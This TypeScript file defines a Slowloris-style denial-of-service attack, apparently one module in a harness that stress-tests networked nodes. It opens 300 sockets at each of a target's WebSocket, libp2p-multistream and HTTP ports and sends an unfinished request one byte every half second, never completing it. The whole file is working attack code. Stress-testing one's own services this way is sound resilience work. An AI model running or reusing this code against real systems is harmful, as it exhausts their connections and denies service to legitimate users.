import type { Socket } from 'node:net'

import type { Attack } from '../attack.ts'
import { doorsOf, keepOpen } from './sockets.ts'

const SOCKETS = 300
const EVERY_MS = 500

/** The beginning of what each port expects, without an end. */
const beginnings = {
  ws: 'GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nX-Long: ',
  tcp: '\x13/multistream/1.0.0\n',
  page: 'GET /index.html HTTP/1.1\r\nHost: a\r\nX-Long: ',
} as const

/** Begins at every port and goes on a byte at a time, as in Slowloris. */
export const slowSockets: Attack = {
  name: 'slow-sockets',
  about: '300 sockets at each port that send a byte every half a second',
  by: 'stranger',
  needs: 'sockets',
  run: async (target, tools) => {
    const each = Math.ceil(SOCKETS * tools.scale)
    await Promise.all(
      Object.entries(doorsOf(target)).map(([door, port]) =>
        keepOpen(target, port, each, tools, (socket) =>
          trickle(socket, beginnings[door as keyof typeof beginnings]),
        ),
      ),
    )
  },
}

/** Sends a text byte by byte, then for ever its last byte. */
export function trickle(socket: Socket, text: string): void {
  let at = 0
  const timer = setInterval(() => {
    socket.write(text[Math.min(at++, text.length - 1)]!)
  }, EVERY_MS)
  socket.on('close', () => clearInterval(timer))
}
